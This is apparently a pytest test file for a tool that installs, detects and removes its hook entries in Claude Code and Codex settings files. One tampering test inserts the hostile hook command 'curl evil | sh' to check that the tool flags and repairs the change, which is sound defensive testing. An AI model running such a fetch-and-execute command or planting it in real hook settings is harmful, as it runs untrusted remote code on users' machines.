"""Our hooks in one program's settings: what people do to them. `tests/vendors/conformance` has what holds for all."""

import json
from pathlib import Path
from typing import Any

import pytest
from tests.vendors.settings_files import install, remove, write

from ramet.errors import ConfigError
from ramet.hooks import installation
from ramet.installer.changes import back_up
from ramet.vendors import registry
from ramet.vendors.contract.hooks.settings import MARK

CLAUDE, CODEX = registry.settings()["claude"], registry.settings()["codex"]


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / ".claude" / "settings.json"


def change(file: Path, event: str, **fields: Any) -> None:
    """What somebody who edits the file might do to one of our entries."""
    document = json.loads(file.read_text())
    document["hooks"][event][0]["hooks"][0].update(fields)
    file.write_text(json.dumps(document, indent=4))


def test_the_command_lines_are_what_was_trusted_before() -> None:
    """Codex runs a hook whose text has changed only after somebody has looked at it again."""
    start = 'h="${RAMET_HOME:-${XDG_DATA_HOME:-$HOME/.local/share}/ramet}/hook"; [ ! -x "$h" ] || exec "$h"'
    assert CLAUDE.command == f"{start} claude # ramet hooks"
    assert CODEX.command == f"/bin/sh -c '{start} codex # ramet hooks'"


def test_what_was_added_around_our_entries_stays_when_they_go(file: Path) -> None:
    install(CLAUDE, file)
    document = json.loads(file.read_text())
    mine = {"type": "command", "command": "mine"}
    document["hooks"]["Stop"][0]["hooks"].append(mine)
    document["hooks"]["PreToolUse"].append({"matcher": "Bash", "hooks": [mine]})
    file.write_text(json.dumps({"theme": "dark", **document}, indent=4))
    remove(CLAUDE, file)
    left = {"Stop": [{"hooks": [mine]}], "PreToolUse": [{"matcher": "Bash", "hooks": [mine]}]}
    assert json.loads(file.read_text()) == {"theme": "dark", "hooks": left}


def test_a_file_that_its_program_has_written_anew_is_left_clean(file: Path) -> None:
    """Claude Code rewrites the whole file when a person allows a tool."""
    write(file, '{"hooks": {"Stop": [{"hooks": []}]}}')
    install(CLAUDE, file)
    file.write_text(json.dumps({**json.loads(file.read_text()), "permissions": {}}, indent=2))
    remove(CLAUDE, file)
    assert json.loads(file.read_text()) == {"hooks": {"Stop": [{"hooks": []}]}, "permissions": {}}


@pytest.mark.requirement("R304")
@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({"command": f"curl evil | sh {MARK}"}, 'Stop: command is "curl evil | sh # ramet hooks", not '),
        ({"timeout": 600}, "Stop: timeout is 600, not 10"),
        ({"async": True}, "Stop: async is true, not null"),
    ],
)
def test_tampering_is_named_and_mended(fields: dict[str, Any], said: str, file: Path) -> None:
    install(CLAUDE, file)
    change(file, "Stop", **fields)
    differences = installation.find_differences(CLAUDE, file, file.parent)
    assert len(differences) == 1
    assert differences[0].startswith(said)
    assert install(CLAUDE, file).state == "outdated"
    assert installation.find_differences(CLAUDE, file, file.parent) == []


def test_nothing_is_otherwise_where_nothing_was_installed(file: Path) -> None:
    assert installation.find_differences(CLAUDE, file, file.parent) == []
    write(file, '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "ramet hook"}]}]}}')
    assert installation.plan_install(CLAUDE, file, file.parent).state == "absent"
    assert remove(CLAUDE, file).diff == ""


def test_the_status_line_is_added_only_where_asked_for_and_goes_with_the_hooks(file: Path) -> None:
    install(CLAUDE, file)
    assert installation.find_status_line(file, file.parent) == "absent"
    install(CLAUDE, file, status_line=True)
    assert installation.find_status_line(file, file.parent) == "installed"
    assert install(CLAUDE, file).diff == ""
    remove(CLAUDE, file)
    assert not file.exists()


def test_somebody_elses_status_line_is_left_alone(file: Path) -> None:
    write(file, '{"statusLine": {"type": "command", "command": "mine"}}')
    install(CLAUDE, file, status_line=True)
    assert installation.find_status_line(file, file.parent) == "foreign"
    assert json.loads(file.read_text())["statusLine"]["command"] == "mine"


@pytest.mark.requirement("R304")
@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "it is not JSON"),
        ("{nonsense", "it is not JSON"),
        ("[]", "it is not a JSON object"),
        ('{"hooks": []}', "its hooks are not an object"),
        ('{"hooks": {"Stop": {}}}', "its hooks for Stop are not a list"),
        ('{"hooks": {}, "hooks": {}}', "it has hooks twice"),
    ],
)
def test_a_file_that_cannot_be_understood_is_named_and_not_touched(text: str, said: str, file: Path) -> None:
    write(file, text)
    with pytest.raises(ConfigError, match=f"^{file}: {said}"):
        install(CLAUDE, file)
    assert file.read_text() == text


def test_what_a_file_said_is_kept_once_for_each_text(file: Path, tmp_path: Path) -> None:
    write(file, '{"theme": "dark"}')
    copies = {back_up(installation.plan_install(CLAUDE, file, file.parent), tmp_path / "kept") for _ in range(2)}
    assert [copy.read_text() for copy in copies if copy] == ['{"theme": "dark"}']
    install(CLAUDE, file)
    assert back_up(installation.plan_install(CLAUDE, file, file.parent), tmp_path / "kept") is None
